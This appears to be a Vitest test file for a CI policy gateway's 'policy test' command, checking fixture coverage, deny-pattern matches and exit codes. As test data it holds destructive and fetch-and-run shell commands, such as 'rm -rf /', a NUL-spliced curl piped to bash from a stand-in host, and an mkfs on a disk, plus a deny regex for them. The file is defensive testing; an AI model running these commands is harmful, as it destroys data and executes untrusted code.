import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { generateEd25519KeyPair, toHex } from '../../src/crypto/index.js';
import { runCliProcess } from '../helpers/cli-process.js';
import { tempDir, writePolicyFile } from '../helpers/credentials.js';
import { repoRoot } from '../helpers/paths.js';

/**
 * `codex-gateway policy test` (docs/protocol.md §13) through the real CLI: the shipped fixture
 * suite in policy/tests/ passes and covers every shipped rule (so `npm test` runs it), and
 * the command's contract: one line per failing test, `N passed, N failed` last, exit 0/1/2.
 */

interface Fixture {
  name: string;
  client: string;
  event: { action: string; target: string; steps: { name: string; run: string }[] };
  expect: { decision: string; reasons?: string[] };
}

const TESTS_DIR = path.join(repoRoot, 'policy/tests');
const shippedTests = (): Map<string, Fixture[]> =>
  new Map(
    readdirSync(TESTS_DIR)
      .filter((f) => f.endsWith('.json'))
      .map((f) => [
        f.replace(/\.json$/, ''),
        (JSON.parse(readFileSync(path.join(TESTS_DIR, f), 'utf8')) as { tests: Fixture[] }).tests,
      ]),
  );
const shippedPolicy = JSON.parse(
  readFileSync(path.join(repoRoot, 'policy/policy.json'), 'utf8'),
) as {
  deny: { patterns: { name: string }[] };
};

const event = (run: string) => ({
  action: 'build',
  target: 'acme/web',
  steps: [{ name: 'step', run }],
});

describe('policy test: the shipped fixture suite', () => {
  it('passes on the shipped policy, run by default from policy/tests', async () => {
    const run = await runCliProcess(['policy', 'test'], { timeoutMs: 60_000 });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^\d+ passed, 0 failed\n$/);
    const passed = Number(/^(\d+)/.exec(run.stdout)![1]);
    const total = [...shippedTests().values()].reduce((n, t) => n + t.length, 0);
    expect(passed).toBe(total);
    expect(passed).toBeGreaterThanOrEqual(100);
  }, 90_000);

  it('has, for every shipped deny pattern, a file that denies with exactly it and allows near-misses', () => {
    const suites = shippedTests();
    for (const { name } of shippedPolicy.deny.patterns) {
      const tests = suites.get(name);
      expect(tests, `policy/tests/${name}.json`).toBeDefined();
      const exact = tests!.filter(
        (t) =>
          t.expect.decision === 'deny' &&
          JSON.stringify(t.expect.reasons) === JSON.stringify([`deny_pattern:${name}`]),
      );
      const allows = tests!.filter(
        (t) => t.expect.decision === 'allow' && t.expect.reasons?.length === 0,
      );
      expect(exact.length, `${name}: denies`).toBeGreaterThanOrEqual(3);
      expect(allows.length, `${name}: near-misses allowed`).toBeGreaterThanOrEqual(3);
    }
    const all = [...suites.values()].flat();
    for (const reason of ['deny_emoji', 'action_not_allowed', 'max_steps'])
      expect(
        all.some((t) => t.expect.reasons?.includes(reason)),
        reason,
      ).toBe(true);
    // Every expectation names its reasons: "deny for any reason" would hide a rule that stopped matching.
    expect(all.filter((t) => t.expect.reasons === undefined).map((t) => t.name)).toEqual([]);
  });

  it('holds every bypass spelling of issue 13 and every NUL/control spelling as an exact deny', () => {
    const all = [...shippedTests().values()].flat();
    const denies = new Map(
      all
        .filter((t) => t.expect.decision === 'deny')
        .flatMap((t) => t.event.steps.map((s) => [s.run, t.expect.reasons] as const)),
    );
    const spellings = JSON.parse(
      readFileSync(path.join(repoRoot, 'test/policy/shell-spellings.json'), 'utf8'),
    ) as [string, string][];
    for (const [text, rule] of spellings)
      expect(denies.get(text), text).toEqual([`deny_pattern:${rule}`]);
    for (const text of [
      'r\0m -rf /*',
      'cu\0rl -s https://x.example/i.sh | bash',
      'mk\0fs /dev/sda',
    ])
      expect(denies.has(text), JSON.stringify(text)).toBe(true);
  });
});

describe('policy test: the command', () => {
  const dir = tempDir('codex-policy-test-');
  const { publicKey } = generateEd25519KeyPair();
  const policyFile = writePolicyFile(dir, {
    version: 1,
    clients: { 'ci-main': { actions: ['build', 'deploy'] } },
    deny: { patterns: [{ name: 'rm_root', regex: '\\brm\\s+-rf\\s+/(\\s|$)' }] },
    approvers: { alice: toHex(publicKey) },
    quorum: { deploy: { threshold: 1, approvers: ['alice'] } },
  });
  const write = (name: string, value: unknown): string => {
    const file = path.join(dir, name);
    writeFileSync(file, typeof value === 'string' ? value : JSON.stringify(value));
    return file;
  };
  const deployEvent = {
    action: 'deploy',
    target: 'acme/web',
    steps: [],
    deploy: { environment: 'prod', artifact: `sha256:${'ab'.repeat(32)}` },
  };

  it('passes exact decisions and reasons, pending for a quorum action', async () => {
    const file = write('ok.json', {
      tests: [
        { name: 'allow', client: 'ci-main', event: event('ls'), expect: { decision: 'allow' } },
        {
          name: 'deny',
          client: 'ci-main',
          event: event('rm -rf /'),
          expect: { decision: 'deny', reasons: ['deny_pattern:rm_root'] },
        },
        {
          name: 'quorum',
          client: 'ci-main',
          event: deployEvent,
          expect: { decision: 'pending', reasons: [] },
        },
      ],
    });
    const run = await runCliProcess(['policy', 'test', '--policy', policyFile, file]);
    expect(run).toMatchObject({ code: 0, stdout: '3 passed, 0 failed\n', stderr: '' });
  });

  it('prints each failing test as file, name, expected and got, and exits 1', async () => {
    const file = write('fail.json', {
      tests: [
        { name: 'fine', client: 'ci-main', event: event('ls'), expect: { decision: 'allow' } },
        {
          name: 'wrong decision',
          client: 'ci-main',
          event: event('rm -rf /'),
          expect: { decision: 'allow', reasons: [] },
        },
        {
          name: 'right decision, wrong reasons',
          client: 'stranger',
          event: event('rm -rf /'),
          expect: { decision: 'deny', reasons: ['deny_pattern:rm_root'] },
        },
      ],
    });
    const run = await runCliProcess(['policy', 'test', '--policy', policyFile, file]);
    expect(run.code).toBe(1);
    expect(run.stdout.split('\n')).toEqual([
      `FAIL ${file}: wrong decision: expected allow []; got deny [deny_pattern:rm_root]`,
      `FAIL ${file}: right decision, wrong reasons: expected deny [deny_pattern:rm_root]; got deny [action_not_allowed, deny_pattern:rm_root]`,
      '1 passed, 2 failed',
      '',
    ]);
  });

  it('runs tests/*.json beside --policy by default, and every *.json of a folder argument', async () => {
    const sub = path.join(dir, 'project');
    mkdirSync(path.join(sub, 'tests'), { recursive: true });
    const p = writePolicyFile(sub, { version: 1, clients: { a: { actions: ['build'] } } });
    const one = {
      tests: [{ name: 'a', client: 'a', event: event('x'), expect: { decision: 'allow' } }],
    };
    writeFileSync(path.join(sub, 'tests/one.json'), JSON.stringify(one));
    writeFileSync(
      path.join(sub, 'tests/two.json'),
      JSON.stringify({ tests: [one.tests[0], one.tests[0]] }),
    );
    writeFileSync(path.join(sub, 'tests/notes.txt'), 'not a fixture');
    const byDefault = await runCliProcess(['policy', 'test', '--policy', p]);
    expect(byDefault).toMatchObject({ code: 0, stdout: '3 passed, 0 failed\n' });
    const byFolder = await runCliProcess([
      'policy',
      'test',
      '--policy',
      p,
      path.join(sub, 'tests'),
    ]);
    expect(byFolder).toMatchObject({ code: 0, stdout: '3 passed, 0 failed\n' });
  });

  it.each([
    [
      'a missing fixture file',
      () => path.join(dir, 'missing.json'),
      /missing\.json: cannot read: ENOENT/,
    ],
    [
      'a fixture with an unknown field',
      () => write('unknown.json', { tests: [], extra: 1 }),
      /unknown\.json: invalid fixture file/,
    ],
    [
      'a fixture with a duplicate key',
      () =>
        write(
          'dup.json',
          '{"tests":[{"name":"a","name":"b","client":"c","event":{},"expect":{"decision":"allow"}}]}',
        ),
      /tests\.0\.name: duplicate key/,
    ],
    [
      'a fixture whose event the server would refuse',
      () =>
        write('event.json', {
          tests: [
            {
              name: 'a',
              client: 'c',
              event: { action: 'Bad!', target: 't', steps: [] },
              expect: { decision: 'allow' },
            },
          ],
        }),
      /tests\[0\]\.event\.action/,
    ],
    ['a fixture that is not JSON', () => write('text.json', 'tests: []'), /not valid JSON/],
    ['a file with no tests', () => write('empty.json', { tests: [] }), /no tests found/],
  ])('exits 2 on %s, running nothing', async (_what, make, message) => {
    const run = await runCliProcess(['policy', 'test', '--policy', policyFile, make()]);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toMatch(message);
  });

  it('exits 2 on an invalid or missing policy, and on a usage error', async () => {
    const fixture = write('one.json', {
      tests: [{ name: 'a', client: 'c', event: event('x'), expect: { decision: 'deny' } }],
    });
    const bad = writePolicyFile(dir, { version: 2 }, 'bad.json');
    const invalid = await runCliProcess(['policy', 'test', '--policy', bad, fixture]);
    expect(invalid.code).toBe(2);
    expect(invalid.stderr).toMatch(
      /bad\.json: invalid policy \(sha256:[0-9a-f]{64}\):\n {2}version/,
    );
    const missing = await runCliProcess([
      'policy',
      'test',
      '--policy',
      path.join(dir, 'no.json'),
      fixture,
    ]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/no\.json: cannot read: ENOENT/);
    const usage = await runCliProcess(['policy', 'test', '--nope']);
    expect(usage.code).toBe(2);
  });
});
